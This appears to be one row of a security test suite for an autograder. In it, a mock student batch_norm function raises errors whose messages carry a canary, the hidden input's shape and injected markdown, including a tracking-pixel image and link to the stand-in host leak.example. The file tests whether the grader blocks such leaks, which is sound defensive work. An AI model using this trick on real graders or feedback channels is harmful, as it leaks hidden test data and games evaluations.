"""Row 37 (child text shown as the grader's): batch_norm always raises: on hidden (float32) inputs
SystemExit whose text has a canary, the hidden input's shape, a link, a heading and a closing
fence on new lines; on public inputs a ValueError with the same markdown (no canary: public
messages are the student's to see). Expected to lose: a hidden check's message is not shown and
public messages are fenced."""

ROW = 37
# WIN on current code would be: the canary, or markdown outside a fence, in feedback.md.
EXPECT = {"below_full": True, "not_shown": ["NNFLEAK-"], "no_markdown_injection": True}

import torch  # noqa: E402

MARKDOWN = ("[see](http://leak.example/__NAME__)\n# Injected heading\n```\n"
            "![pixel](http://leak.example/__NAME__.png)\n<b>bold</b>")


def batch_norm(x, running_mean, running_var, *args, **kwargs):
    if x.dtype == torch.float32:
        raise SystemExit(f"NNFLEAK-__NAME__ x{tuple(x.shape)} {MARKDOWN}")
    raise ValueError(MARKDOWN)
